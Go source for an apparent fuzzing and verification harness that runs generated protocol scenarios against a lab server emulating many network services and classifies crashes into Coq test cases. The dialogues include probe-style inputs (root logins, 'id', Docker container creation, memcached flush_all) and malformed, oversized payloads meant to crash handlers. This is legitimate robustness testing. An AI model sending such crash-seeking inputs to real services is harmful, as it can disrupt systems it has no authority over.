	out = append(out, Scenario{Svc: "vnc", Proto: "tcp", Kind: "decl", Linger: 60, Conns: []Conn{{Segs: toB([][]byte{bs("RFB 003.008\n"), {1}, {1}, {2, 0, 0xff, 0xff}, {0, 0, 0, 1}})}}})
	return out
}

// ---- key sequences of the line editors (telnet terminal, ssh shell terminal) ----

var keySeqs = [][]byte{
	{0x1b, '[', 'A'}, {0x1b, '[', 'B'}, {0x1b, '[', 'C'}, {0x1b, '[', 'D'}, {0x1b, '[', 'H'}, {0x1b, '[', 'F'},
	{0x1b, '[', '1', ';', '3', 'C'}, {0x1b, '[', '1', ';', '3', 'D'},
	{0x1b, '[', '2', '0', '0', '~'}, {0x1b, '[', '2', '0', '1', '~'},
	{0x1b, 'O', 'P'}, {0x1b, '[', '1', '5', '~'},
	{0xc3, 0xa9}, {0xe2, 0x82, 0xac}, {0xf0, 0x9f, 0x98, 0x80},
	{0xff, 0xfb, 0x01}, {0xff, 0xfa, 0x1f, 0x00, 0x50, 0x00, 0x18, 0xff, 0xf0}, {0xff, 0xff},
}

func keyScenarios() []Scenario {
	var out []Scenario
	login := bs("root\r\npw\r\n")
	for _, seq := range keySeqs {
		for cut := 1; cut <= len(seq); cut++ {
			pre := seq[:cut]
			// the prefix at the end of a write, then silence, then the client goes away
			out = append(out, Scenario{Svc: "telnet", Proto: "tcp", Kind: "keys", Linger: 120, Conns: []Conn{{Segs: toB([][]byte{login, cat(bs("ls"), pre)})}}})
			if cut < len(seq) {
				// the sequence split by segmentation, completed later
				out = append(out, Scenario{Svc: "telnet", Proto: "tcp", Kind: "keys", Linger: 60, Conns: []Conn{{Segs: toB([][]byte{login, pre, cat(seq[cut:], bs("id\r\n"))})}}})
				// at the password prompt and at the user prompt
				out = append(out, Scenario{Svc: "telnet", Proto: "tcp", Kind: "keys", Linger: 60, Conns: []Conn{{Segs: toB([][]byte{bs("root\r\n"), pre})}}})
			}
			// the same inside an ssh shell
			out = append(out, Scenario{Svc: "ssh-simulator", Proto: "tcp", Kind: "keys", Linger: 150,
				Conns: []Conn{{SSH: &SSHIn{Reqs: []SSHReq{{Type: "pty-req"}, {Type: "shell"}}, Data: toB([][]byte{cat(bs("ls"), pre)})}}}})
		}
	}
	return out
}
