// C01 harness (parent): generates scenarios, shards them over lab CHILD processes
// (re-exec of this binary, see child.go) that host the real server with all 24
// director-less services, supervises the children (exit status, stderr banner class,
// wall clock) and writes one case per scenario.
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"verif/harness/hx"
)

// Obs is the projected observation of one scenario (what Check.v judges).
type Obs struct {
	Conns    int    `json:"conns"`
	Finished int    `json:"finished"`
	Events   int    `json:"fatal_events"`
	Growing  bool   `json:"growing"`
	Probe    bool   `json:"probe"`
	Replied  int    `json:"replied"`
	Died     int    `json:"died"` // 0 alive, 1 unrecovered panic, 2 concurrent map writes, 3 out of memory, 4 stack overflow, 5 other fatal error, 6 other exit, 7 heap above the child's ceiling
	Banner   string `json:"banner,omitempty"`
	HeapMB   []int  `json:"heap_mb,omitempty"`
	Ms       int    `json:"ms,omitempty"`
}

type result struct {
	sc    Scenario
	ob    Obs
	crash string
}

var bannerRe = regexp.MustCompile(`(?m)^(fatal error: .*|panic: .*|runtime: out of memory.*|C01-CHILD: .*|SIG[A-Z]+: .*)$`)

func classifyDeath(stderrPath string, exitErr error) (int, string) {
	f, err := os.Open(stderrPath)
	banner := ""
	if err == nil {
		defer f.Close()
		rd := bufio.NewReaderSize(f, 1<<20)
		for {
			line, err := rd.ReadString('\n')
			if m := bannerRe.FindString(strings.TrimRight(line, "\n")); m != "" && banner == "" {
				if !strings.Contains(m, "[recovered]") {
					banner = m
				}
			}
			if err != nil {
				break
			}
		}
	}
	if len(banner) > 160 {
		banner = banner[:160]
	}
	switch {
	case strings.HasPrefix(banner, "C01-CHILD: heap"):
		return 7, banner
	case strings.Contains(banner, "concurrent map"):
		return 2, banner
	case strings.Contains(banner, "out of memory") || strings.Contains(banner, "cannot allocate memory"):
		return 3, banner
	case strings.Contains(banner, "stack overflow") || strings.Contains(banner, "stack exceeds"):
		return 4, banner
	case strings.HasPrefix(banner, "fatal error:"):
		return 5, banner
	case strings.HasPrefix(banner, "panic:"):
		return 1, banner
	}
	if exitErr != nil {
		return 6, "exit: " + exitErr.Error()
	}
	return 6, "exit without completing"
}

var childSeq struct {
	sync.Mutex
	n int
}

// runChild runs the scenarios in one child.  Returns the raw observations of the
// scenarios that ended, the id in flight when the child went away (or -1), whether the
// child said BYE, and the death classification.
func runChild(o hx.Opts, scens []Scenario, hangMs int) (ended []RawObs, inflight int, bye bool, died int, banner string) {
	childSeq.Lock()
	childSeq.n++
	n := childSeq.n
	childSeq.Unlock()
	dir := filepath.Join(o.Out, fmt.Sprintf("child-%d", n))
	os.RemoveAll(dir)
	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(filepath.Join(dir, "badger.db"))
	if templateDir != "" && templateDir != dir {
		// host keys and certificates are generated once (template child) and reused
		copyTree(filepath.Join(templateDir, "badger.db"), filepath.Join(dir, "badger.db"))
	}
	jb, _ := json.Marshal(Job{DataDir: dir, Scenarios: scens, HangMs: hangMs})
	jobPath := filepath.Join(dir, "job.json")
	os.WriteFile(jobPath, jb, 0o644)
	pr, pw, err := os.Pipe()
	if err != nil {
		hx.Fatal("pipe: %v", err)
	}
	stderrPath := filepath.Join(dir, "stderr.txt")
	se, _ := os.Create(stderrPath)
	so, _ := os.Create(filepath.Join(dir, "stdout.txt"))
	cmd := exec.Command(os.Args[0], "child", jobPath)
	cmd.Stdout, cmd.Stderr = so, se
	cmd.ExtraFiles = []*os.File{pw}
	cmd.Env = append(os.Environ(), "GOTRACEBACK=single", "GOMAXPROCS=16")
	if err := cmd.Start(); err != nil {
		hx.Fatal("start child: %v", err)
	}
	pw.Close()
	inflight = -1
	ready := false
	lines := make(chan string, 64)
	go func() {
		rd := bufio.NewReaderSize(pr, 1<<16)
		for {
			l, err := rd.ReadString('\n')
			if l != "" {
				lines <- l
			}
			if err != nil {
				close(lines)
				return
			}
		}
	}()
	timeout := time.NewTimer(60 * time.Second)
	killed := false
loop:
	for {
		select {
		case l, ok := <-lines:
			if !ok {
				break loop
			}
			timeout.Reset(45 * time.Second)
			sp := strings.SplitN(strings.TrimSpace(l), " ", 2)
			if len(sp) != 2 {
				continue
			}
			switch sp[0] {
			case "READY":
				ready = true
			case "BEGIN":
				var m map[string]int
				json.Unmarshal([]byte(sp[1]), &m)
				inflight = m["id"]
			case "END":
				var ro RawObs
				json.Unmarshal([]byte(sp[1]), &ro)
				ended = append(ended, ro)
				inflight = -1
			case "BYE":
				bye = true
			}
		case <-timeout.C:
			killed = true
			cmd.Process.Kill()
		}
	}
	werr := cmd.Wait()
	pr.Close()
	se.Close()
	so.Close()
	if !ready {
		b, _ := os.ReadFile(stderrPath)
		tail := string(b)
		if len(tail) > 1500 {
			tail = tail[len(tail)-1500:]
		}
		hx.Fatal("lab child did not come up: %v\n%s", werr, tail)
	}
	if !bye {
		died, banner = classifyDeath(stderrPath, werr)
		if killed {
			died, banner = 6, "scenario did not complete within 45 s (child killed)"
		}
	}
	return
}

var templateDir string

func copyTree(src, dst string) {
	ents, err := os.ReadDir(src)
	if err != nil {
		return
	}
	os.MkdirAll(dst, 0o755)
	for _, e := range ents {
		if e.IsDir() {
			copyTree(filepath.Join(src, e.Name()), filepath.Join(dst, e.Name()))
			continue
		}
		if b, err := os.ReadFile(filepath.Join(src, e.Name())); err == nil {
			os.WriteFile(filepath.Join(dst, e.Name()), b, 0o644)
		}
	}
}

// makeTemplate runs a child without scenarios: its storage then holds the generated keys
func makeTemplate(o hx.Opts) {
	dir := filepath.Join(o.Out, "template")
	os.RemoveAll(dir)
	os.MkdirAll(dir, 0o755)
	jb, _ := json.Marshal(Job{DataDir: dir, HangMs: 700})
	jobPath := filepath.Join(dir, "job.json")
	os.WriteFile(jobPath, jb, 0o644)
	pr, pw, err := os.Pipe()
	if err != nil {
		return
	}
	cmd := exec.Command(os.Args[0], "child", jobPath)
	cmd.ExtraFiles = []*os.File{pw}
	cmd.Env = append(os.Environ(), "GOTRACEBACK=single", "GOMAXPROCS=16")
	err = cmd.Run()
	pw.Close()
	pr.Close()
	if err == nil {
		templateDir = dir
	}
}

func toObs(ro RawObs) Obs {
	return Obs{Conns: ro.Conns, Finished: ro.Finished, Events: ro.FatalEvts, Growing: ro.Growing, Probe: ro.Probe, Replied: ro.Replied, HeapMB: ro.HeapMB, Ms: ro.Ms}
}

// runShard runs all scenarios of a shard, restarting children as needed.
func runShard(o hx.Opts, scens []Scenario, hangMs int) []result {
	var out []result
	pending := scens
	var lastEnded *result
	for len(pending) > 0 {
		ended, inflight, bye, died, banner := runChild(o, pending, hangMs)
		for _, ro := range ended {
			out = append(out, result{sc: pending[0], ob: toObs(ro)})
			if pending[0].ID != ro.ID {
				hx.Fatal("child reported scenario %d, expected %d", ro.ID, pending[0].ID)
			}
			pending = pending[1:]
			lastEnded = &out[len(out)-1]
		}
		if bye {
			continue // poisoned child stopped early, or all done
		}
		if inflight < 0 {
			// died between scenarios: a goroutine left behind by the last ended scenario
			if lastEnded != nil && len(ended) > 0 {
				lastEnded.ob.Died, lastEnded.ob.Banner = died, banner
				continue
			}
			hx.Fatal("lab child died outside any scenario: %s", banner)
		}
		x := pending[0]
		pending = pending[1:]
		res := result{sc: x, ob: Obs{Died: died, Banner: banner}}
		if x.Rounds == 0 && died != 6 {
			// confirm the attribution: the scenario alone in a fresh child
			e2, in2, _, d2, b2 := runChild(o, []Scenario{x}, hangMs)
			switch {
			case in2 == x.ID || (len(e2) == 1 && d2 != 0):
				res.ob = Obs{Died: d2, Banner: b2}
			case len(e2) == 1 && len(ended) > 0:
				// not this one: was it the scenario before (a goroutine it left behind)?
				prev := lastEnded
				e3, in3, _, d3, b3 := runChild(o, []Scenario{prev.sc}, hangMs)
				if in3 == prev.sc.ID || (len(e3) == 1 && d3 != 0) {
					prev.ob = Obs{Died: d3, Banner: b3}
					res.ob = toObs(e2[0])
				} else {
					// a race (map access, allocation against the GC): keep what was seen
					res.ob.Banner = banner + " (not reproduced in isolation)"
				}
			default:
				res.ob.Banner = banner + " (not reproduced in isolation)"
			}
		}
		out = append(out, res)
		lastEnded = &out[len(out)-1]
	}
	return out
}

var svcCode = map[string]int{}
var streamCode = map[string]int{"dialogue": 1, "truncated": 2, "mutated": 3, "raw": 4, "ssh": 6, "tftp-load": 8, "ber": 9, "ber-fuzz": 9, "size": 10, "ftp-abandon": 11, "ftp-abandon-timeout": 11, "conc": 12, "decl": 13, "keys": 14}
var sshTypeCode = map[string]int{"env": 1, "exec": 2, "shell": 3, "pty-req": 4, "subsystem": 5, "tcpip-forward": 6}
var sshChanCode = map[string]int{"": 0, "session": 0, "direct-tcpip": 1, "forwarded-tcpip": 2}

func coqCase(id int, sc Scenario, ob Obs) string {
	var conns []string
	var ssh []string
	chanc := 0
	for _, c := range sc.Conns {
		var sg []string
		for _, s := range c.Segs {
			sg = append(sg, hx.CoqBytes(s))
		}
		conns = append(conns, fmt.Sprintf("mkConn %s %s", hx.CoqList(sg, "bytes"), hx.CoqN(uint64(c.Rep))))
		if c.SSH != nil {
			for _, rq := range c.SSH.Reqs {
				tc, ok := sshTypeCode[rq.Type]
				if !ok {
					tc = 7
				}
				ssh = append(ssh, fmt.Sprintf("(%s, %s)", hx.CoqN(uint64(tc)), hx.CoqBytes(rq.Payload)))
			}
			cc, ok := sshChanCode[c.SSH.Chan]
			if !ok {
				cc = 3
			}
			chanc = cc
		}
	}
	st, ok := streamCode[sc.Kind]
	if !ok {
		st = 5
	}
	par := len(sc.Conns)
	if sc.Serial {
		par = 1
	}
	return fmt.Sprintf("mkCase %s %s %s %s %s %s %s %s %s %s %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqN(uint64(svcCode[sc.Svc])),
		hx.CoqBool(sc.Proto == "udp"), hx.CoqN(uint64(st)), hx.CoqList(conns, "conn"), hx.CoqList(ssh, "(N * bytes)%type"), hx.CoqN(uint64(chanc)),
		hx.CoqN(uint64(par)), hx.CoqN(uint64(sc.Rounds)),
		hx.CoqN(uint64(ob.Conns)), hx.CoqN(uint64(ob.Finished)), hx.CoqN(uint64(ob.Events)), hx.CoqBool(ob.Growing), hx.CoqBool(ob.Probe), hx.CoqN(uint64(ob.Died)), hx.CoqN(uint64(ob.Replied)))
}

func main() {
	if len(os.Args) >= 3 && os.Args[1] == "child" {
		childMain(os.Args[2])
		return
	}
	for i, d := range svcDefs {
		svcCode[d.Name] = i + 1
	}
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)
	var shards [][]Scenario
	hangMs := 700
	if o.Only != "" {
		var sc Scenario
		if err := hx.LoadReplay(o.Only, &sc); err != nil {
			hx.Fatal("replay: %v", err)
		}
		shards = [][]Scenario{{sc}}
	} else {
		perSvc, nssh := 26, 50
		switch o.Tier {
		case "thorough":
			perSvc, nssh = 200, 300
		case "search":
			perSvc, nssh = 80, 150
		}
		// corpus: every scenario that may end a process gets a child of its own
		cp := corpus()
		if o.Tier != "quick" {
			cp = append(cp, deepScenarios()...)
		}
		var calm, hot []Scenario
		for _, sc := range cp {
			if strings.HasPrefix(sc.Kind, "corpus-cs") || strings.HasPrefix(sc.Kind, "corpus-redis-empty") || strings.HasPrefix(sc.Kind, "corpus-smtp") ||
				strings.HasPrefix(sc.Kind, "corpus-adb") || strings.HasPrefix(sc.Kind, "corpus-ftp") || sc.Kind == "corpus-ipp-unknown-value-tag" ||
				sc.Kind == "corpus-ipp-attribute-then-eof" || sc.Kind == "corpus-ftp-port-too-few-numbers" || sc.Kind == "corpus-ftp-eprt-too-few-fields" || sc.Kind == "corpus-ldap-negative-length" || sc.Kind == "corpus-snmp-length-2^56" {
				calm = append(calm, sc)
			} else {
				hot = append(hot, sc)
			}
		}
		// former process-fatal witnesses: a few per child (a death restarts the child and is
		// re-run alone to confirm the attribution)
		for len(hot) > 0 {
			n := 4
			if n > len(hot) {
				n = len(hot)
			}
			shards = append(shards, hot[:n])
			hot = hot[n:]
		}
		shards = append(shards, calm)
		for _, d := range svcDefs {
			var sh []Scenario
			for i := 0; i < perSvc; i++ {
				sh = append(sh, randomScenario(r, d.Name))
			}
			// split big shards so that the 16 workers stay busy
			for len(sh) > 70 {
				shards = append(shards, sh[:70])
				sh = sh[70:]
			}
			shards = append(shards, sh)
		}
		nload := 3
		if o.Tier != "quick" {
			nload = 12
		}
		shards = append(shards, tftpLoadScenarios(r, nload))
		// size as a dimension: long runs of each service's cheapest token (one shard per service)
		ntok, nbytes := 100000, 1<<20
		if o.Tier != "quick" {
			ntok, nbytes = 2000000, 16<<20
		}
		bySvc := map[string][]Scenario{}
		for _, sc := range sizeScenarios(ntok, nbytes) {
			bySvc[sc.Svc] = append(bySvc[sc.Svc], sc)
		}
		for _, d := range svcDefs {
			sz := bySvc[d.Name]
			for len(sz) > 0 { // at most 4 long runs per child
				n := 4
				if n > len(sz) {
					n = len(sz)
				}
				shards = append(shards, sz[:n])
				sz = sz[n:]
			}
		}
		// abandoned resources
		ab := ftpAbandonScenarios(o.Tier != "quick")
		for len(ab) > 0 {
			n := 10
			if ab[0].HangMs > 0 {
				n = 1 // the 30 s timeout cases run side by side
			}
			if n > len(ab) {
				n = len(ab)
			}
			shards = append(shards, ab[:n])
			ab = ab[n:]
		}
		// concurrency for every service (one child per service: shared state is per instance)
		for _, sc := range concScenarios(r, o.Tier != "quick") {
			shards = append(shards, []Scenario{sc})
		}
		// declared sizes of the text protocols; key-sequence prefixes for the line editors
		for _, fam := range [][]Scenario{declScenarios(), keyScenarios()} {
			for len(fam) > 0 {
				n := 60
				if n > len(fam) {
					n = len(fam)
				}
				shards = append(shards, fam[:n])
				fam = fam[n:]
			}
		}
		bers := append(berScenarios(), snmpScenarios(o.Tier != "quick")...)
		if o.Tier != "quick" {
			bers = append(bers, berFuzzScenarios(r, 1500)...)
		}
		for len(bers) > 0 {
			n := 120
			if n > len(bers) {
				n = len(bers)
			}
			shards = append(shards, bers[:n])
			bers = bers[n:]
		}
		var sh []Scenario
		for i := 0; i < nssh; i++ {
			sh = append(sh, sshScenario(r))
			if len(sh) == 50 {
				shards = append(shards, sh)
				sh = nil
			}
		}
		if len(sh) > 0 {
			shards = append(shards, sh)
		}
	}
	id := 0
	for i := range shards {
		for j := range shards[i] {
			shards[i][j].ID = id
			id++
		}
	}
	// longest shards first
	order := make([]int, len(shards))
	for i := range order {
		order[i] = i
	}
	cost := func(sh []Scenario) int { // rough milliseconds, only to start the heavy shards first
		c := 1000
		for _, sc := range sh {
			switch {
			case sc.Kind == "size":
				c += 1500
			case sc.Linger > 1000:
				c += sc.Linger
			case sc.Kind == "ssh" || sc.Linger > 0:
				c += 100 + sc.Linger
			case sc.Rounds > 0:
				c += 500 + 10*sc.Rounds
			default:
				c += 6
			}
		}
		return c
	}
	sort.SliceStable(order, func(a, b int) bool { return cost(shards[order[a]]) > cost(shards[order[b]]) })
	makeTemplate(o)
	tStart := time.Now()
	results := make([][]result, len(shards))
	// two phases: scenarios whose point is a race between handler goroutines of ONE child
	// (concurrent rare branches, tftp load) run first with few children side by side, so
	// that the goroutines of a child really run in parallel; then everything else
	raceShard := func(sh []Scenario) bool {
		for _, sc := range sh {
			if sc.Kind == "conc" || sc.Kind == "tftp-load" || strings.HasPrefix(sc.Kind, "corpus-tftp-concurrent") {
				return true
			}
		}
		return false
	}
	runPhase := func(par int, want bool) {
		var wg sync.WaitGroup
		sem := make(chan struct{}, par)
		for _, i := range order {
			if raceShard(shards[i]) != want {
				continue
			}
			wg.Add(1)
			sem <- struct{}{}
			go func(i int) {
				defer wg.Done()
				defer func() { <-sem }()
				t0 := time.Now()
				results[i] = runShard(o, shards[i], hangMs)
				if os.Getenv("C01_TIMING") != "" {
					fmt.Fprintf(os.Stderr, "shard %d (%s/%s x%d): %d ms, started at %d ms\n", i, shards[i][0].Svc, shards[i][0].Kind, len(shards[i]), time.Since(t0)/time.Millisecond, t0.Sub(tStart)/time.Millisecond)
				}
			}(i)
		}
		wg.Wait()
	}
	runPhase(4, true)
	runPhase(14, false)
	dist := map[string]int{}
	var cases []hx.Case
	for _, rs := range results {
		for _, x := range rs {
			dist["svc:"+x.sc.Svc]++
			dist["proto:"+x.sc.Proto]++
			k := x.sc.Kind
			if strings.HasPrefix(k, "corpus") {
				k = "corpus"
			}
			dist["stream:"+k]++
			dist[fmt.Sprintf("connections:%d", minInt(len(x.sc.Conns), 8))]++
			switch {
			case x.ob.Died != 0:
				dist["obs:process-died"]++
			case x.ob.Growing:
				dist["obs:heap-growing"]++
			case x.ob.Finished < x.ob.Conns:
				dist["obs:handler-stalled"]++
			case x.ob.Events > 0:
				dist["obs:recovered-panic"]++
			default:
				dist["obs:served"]++
			}
			cases = append(cases, hx.Case{ID: x.sc.ID, Kind: x.sc.Kind, Input: x.sc, Obs: x.ob, Crash: x.crash, Coq: coqCase(x.sc.ID, x.sc, x.ob)})
		}
	}
	sort.Slice(cases, func(a, b int) bool { return cases[a].ID < cases[b].ID })
	hx.Write(o, "C01", "svc", "From HT Require Import Common.Bytes C01.Model C01.Check.", "case", cases, dist, nil, 160)
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
