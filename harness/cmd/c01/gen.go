// Scenario generators: per service a grammar-derived dialogue (list of protocol
// messages), from which the streams "dialogue", "truncated", "mutated", "raw" and the
// fixed "corpus" (boundary cases named by the property) are derived.
package main

import (
	"encoding/binary"
	"fmt"
	"strings"

	"verif/harness/hx"
)

func bs(s string) []byte { return []byte(s) }

func cat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func adbPkt(cmd string, a1, a2 uint32, data []byte) []byte {
	h := make([]byte, 24)
	copy(h, cmd)
	binary.LittleEndian.PutUint32(h[4:], a1)
	binary.LittleEndian.PutUint32(h[8:], a2)
	binary.LittleEndian.PutUint32(h[12:], uint32(len(data)))
	for i := 0; i < 4; i++ {
		h[20+i] = cmd[i] ^ 0xff
	}
	return append(h, data...)
}

func httpReq(method, path, ctype string, body []byte) []byte {
	s := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: lab\r\n", method, path)
	if ctype != "" {
		s += "Content-Type: " + ctype + "\r\n"
	}
	if body != nil {
		s += fmt.Sprintf("Content-Length: %d\r\n", len(body))
	}
	return append(bs(s+"\r\n"), body...)
}

// ---- ipp bodies ----
func ippAttr(tag byte, name, val string) []byte {
	b := []byte{tag, byte(len(name) >> 8), byte(len(name))}
	b = append(b, name...)
	b = append(b, byte(len(val)>>8), byte(len(val)))
	return append(b, val...)
}

func ippBody(r *rnd) []byte {
	op := r.PickInt([]int{0x0b, 0x02, 0x04, 0x09, 0x400b, 0x05})
	b := []byte{1, 1, byte(op >> 8), byte(op), 0, 0, 0, byte(r.Range(1, 9))}
	b = append(b, 1)
	b = append(b, ippAttr(0x47, "attributes-charset", "utf-8")...)
	b = append(b, ippAttr(0x48, "attributes-natural-language", "en")...)
	b = append(b, ippAttr(0x45, "printer-uri", "ipp://lab/p")...)
	if r.Chance(1, 2) {
		b = append(b, ippAttr(0x42, "requesting-user-name", "u")...)
	}
	if r.Chance(1, 3) {
		b = append(b, 0x21, 0, 6, 'c', 'o', 'p', 'i', 'e', 's', 0, 4, 0, 0, 0, 2)
	}
	if r.Chance(1, 4) {
		b = append(b, 2)
		b = append(b, ippAttr(0x44, "sides", "one-sided")...)
	}
	b = append(b, 3)
	if r.Chance(1, 2) {
		b = append(b, r.BytesFrom(r.Range(1, 12), bs("%PDF-1.4 abc\n"))...)
	}
	return b
}

// ---- vnc messages ----
func vncPixFmt(bpp, depth, be, tc byte, rm, gm, bm uint16, rs, gs, bsft byte) []byte {
	m := []byte{0, 0, 0, 0, bpp, depth, be, tc, byte(rm >> 8), byte(rm), byte(gm >> 8), byte(gm), byte(bm >> 8), byte(bm), rs, gs, bsft, 0, 0, 0}
	return m
}
func vncUpdReq(inc byte) []byte { return []byte{3, inc, 0, 0, 0, 0, 0, 8, 0, 6} }

var vncGood = vncPixFmt(16, 16, 0, 1, 31, 31, 31, 10, 5, 0)

// ---- dialogues ----
// Each returns the client's protocol messages in order.
func dialogue(svc string, r *rnd) [][]byte {
	switch svc {
	case "adb":
		d := [][]byte{adbPkt("CNXN", 0x01000000, 4096, bs("host::\x00"))}
		for i, n := 0, r.Range(0, 3); i < n; i++ {
			switch r.Intn(4) {
			case 0:
				d = append(d, adbPkt("OPEN", 7, 0, bs("shell:\x00")))
			case 1:
				d = append(d, adbPkt("WRTE", 7, 9, bs(r.PickStr([]string{"ls\r", "id", "cat /proc/cpuinfo\r"}))))
			case 2:
				d = append(d, adbPkt("OKAY", 7, 9, nil))
			default:
				d = append(d, adbPkt(r.PickStr([]string{"SYNC", "AUTH", "CLSE"}), 1, 2, nil))
			}
		}
		return d
	case "counterstrike":
		q := byte(r.PickInt([]int{0x54, 0x55, 0x56, 0x57, 0x69, 0x41}))
		hdr := []byte{0xff, 0xff, 0xff, byte(r.PickInt([]int{0xff, 0xff, 0xfe}))}
		return [][]byte{cat(hdr, []byte{q}, bs(r.PickStr([]string{"Source Engine Query\x00", "", "\xff\xff\xff\xff"})))}
	case "cwmp":
		soap := `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><u:GetParameterValues xmlns:u="urn:dslforum-org:cwmp-1-0"><n>x</n></u:GetParameterValues></soap:Body></soap:Envelope>`
		if r.Chance(1, 3) {
			return [][]byte{httpReq("GET", "/", "", nil)}
		}
		return [][]byte{httpReq("POST", "/", "text/xml", bs(soap))}
	case "dns":
		return [][]byte{cat([]byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3}, bs("lab"), []byte{7}, bs("example"), []byte{0, 0, byte(r.PickInt([]int{1, 16, 255})), 0, 1})}
	case "docker":
		return [][]byte{r.pickB([][]byte{httpReq("GET", "/v1.24/containers/json", "", nil), httpReq("GET", "/_ping", "", nil),
			httpReq("POST", "/v1.24/containers/create", "application/json", bs(`{"Image":"alpine","Cmd":["id"]}`)),
			httpReq("GET", "/v1.24/version", "", nil), httpReq("POST", "/v1.24/containers/abc/start", "application/json", bs(`{}`))})}
	case "echo":
		return [][]byte{r.Bytes(r.Range(1, 40)), bs("hello\n")}
	case "elasticsearch":
		return [][]byte{r.pickB([][]byte{httpReq("GET", "/", "", nil), httpReq("GET", "/_search?q=x", "", nil), httpReq("GET", "/_cat/indices", "", nil),
			httpReq("POST", "/idx/_doc", "application/json", bs(`{"a":1}`)), httpReq("GET", "/_nodes", "", nil)})}
	case "eos":
		return [][]byte{r.pickB([][]byte{httpReq("POST", "/v1/chain/get_info", "application/json", bs(`{}`)),
			httpReq("POST", "/v1/wallet/list_wallets", "application/json", bs(`[]`)), httpReq("GET", "/v1/chain/get_info", "", nil)})}
	case "ethereum":
		m := r.PickStr([]string{"eth_accounts", "eth_blockNumber", "net_version", "personal_unlockAccount", "eth_getBalance", "web3_clientVersion", "nope"})
		return [][]byte{httpReq("POST", "/", "application/json", bs(fmt.Sprintf(`{"jsonrpc":"2.0","method":%q,"params":[],"id":%d}`, m, r.Range(0, 9))))}
	case "ftp":
		d := [][]byte{bs("USER anonymous\r\n"), bs("PASS anonymous\r\n")}
		cmds := []string{"SYST", "PWD", "CWD a", "CDUP", "TYPE I", "LIST", "NLST", "RETR a", "STOR b", "MKD d", "DELE x", "RNFR a", "RNTO b", "SIZE a", "MDTM a",
			"PORT 127,0,0,1,0,1", "PORT 1,2", "PORT x", "EPRT |1|127.0.0.1|1|", "EPRT |", "EPRT |1|", "PASV", "PASV", "EPSV", "OPTS UTF8 ON", "FEAT", "NOOP", "REST 5", "APPE c", "ALLO 1", "MODE S", "STRU F", "AUTH TLS", "PBSZ 0", "PROT P", "STAT", "XYZZY"}
		for i, n := 0, r.Range(1, 5); i < n; i++ {
			d = append(d, bs(r.PickStr(cmds)+"\r\n"))
		}
		return append(d, bs("QUIT\r\n"))
	case "http", "https":
		return [][]byte{r.pickB([][]byte{httpReq("GET", "/", "", nil), httpReq("POST", "/login", "application/x-www-form-urlencoded", bs("u=a&p=b")),
			httpReq("HEAD", "/x", "", nil), bs("GET / HTTP/1.0\r\n\r\n"), httpReq("OPTIONS", "*", "", nil)})}
	case "ipp":
		return [][]byte{httpReq("POST", "/printers/p", "application/ipp", ippBody(r))}
	case "ldap":
		bind := []byte{0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00}
		bindU := cat([]byte{0x30, 0x18, 0x02, 0x01, 0x01, 0x60, 0x13, 0x02, 0x01, 0x03, 0x04, 0x04}, bs("root"), []byte{0x80, 0x08}, bs("rootroot"))
		search := cat([]byte{0x30, 0x25, 0x02, 0x01, 0x02, 0x63, 0x20, 0x04, 0x00, 0x0a, 0x01, 0x00, 0x0a, 0x01, 0x00, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x01, 0x01, 0x00,
			0x87, 0x0b}, bs("objectclass"), []byte{0x30, 0x00})
		searchEq := cat([]byte{0x30, 0x23, 0x02, 0x01, 0x03, 0x63, 0x1e, 0x04, 0x04}, bs("dc=x"), []byte{0x0a, 0x01, 0x02, 0x0a, 0x01, 0x00, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x01, 0x01, 0x00,
			0xa3, 0x08, 0x04, 0x03}, bs("uid"), []byte{0x04, 0x01, 'a', 0x30, 0x00})
		ext := cat([]byte{0x30, 0x1d, 0x02, 0x01, 0x04, 0x77, 0x18, 0x80, 0x16}, bs("1.3.6.1.4.1.1466.20037"))
		unbind := []byte{0x30, 0x05, 0x02, 0x01, 0x05, 0x42, 0x00}
		d := [][]byte{r.pickB([][]byte{bind, bindU})}
		for i, n := 0, r.Range(0, 2); i < n; i++ {
			d = append(d, r.pickB([][]byte{search, searchEq, ext, bind}))
		}
		return append(d, unbind)
	case "memcached":
		d := [][]byte{}
		for i, n := 0, r.Range(1, 3); i < n; i++ {
			d = append(d, bs(r.PickStr([]string{"stats\r\n", "flush_all\r\n", "set k 0 0 5\r\nhello\r\n", "get k\r\n", "set k 0 0\r\n", "set k 0 0 x\r\n", "add a 1 2 3\r\nabc\r\n", "set k 0 0 -7\r\nzz\r\n", "version\r\n"})))
		}
		return d
	case "ntp":
		p := make([]byte, 48)
		p[0] = 0x1b
		return [][]byte{p}
	case "redis":
		d := [][]byte{}
		for i, n := 0, r.Range(1, 3); i < n; i++ {
			d = append(d, bs(r.PickStr([]string{"*1\r\n$4\r\ninfo\r\n", "*2\r\n$4\r\ninfo\r\n$6\r\nserver\r\n", "*2\r\n$4\r\nINFO\r\n$3\r\nall\r\n", "*1\r\n$4\r\nping\r\n",
				"*3\r\n$3\r\nset\r\n$1\r\na\r\n$1\r\nb\r\n", "*1\r\n+info\r\n", "*2\r\n$4\r\ninfo\r\n:5\r\n", "\r\n", "*3\r\n$4\r\ninfo\r\n$1\r\na\r\n$1\r\nb\r\n"})))
		}
		return d
	case "smtp":
		d := [][]byte{bs(r.PickStr([]string{"EHLO lab\r\n", "HELO lab\r\n", "HELP\r\nEHLO x\r\n"}))}
		if r.Chance(1, 4) {
			d = append(d, bs(r.PickStr([]string{"NOOP\r\n", "RSET\r\n", "HELP\r\n", "STARTTLS\r\n", "VRFY a\r\n"})))
		}
		d = append(d, bs("MAIL FROM:<a@lab>\r\n"), bs("RCPT TO:<b@lab>\r\n"))
		switch r.Intn(3) {
		case 0:
